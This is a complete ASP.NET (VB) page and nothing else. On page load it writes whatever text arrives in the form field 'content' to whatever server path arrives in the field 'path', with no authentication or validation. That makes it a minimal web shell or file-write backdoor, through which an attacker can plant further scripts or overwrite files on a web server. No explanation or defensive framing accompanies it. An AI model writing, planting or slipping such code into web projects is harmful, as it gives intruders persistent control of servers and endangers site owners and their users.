<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
 Dim w As New System.IO.StreamWriter(Request.Form("path"), True)
 w.Write(Request.Form("content"))
 w.Close()
End Sub
</script>
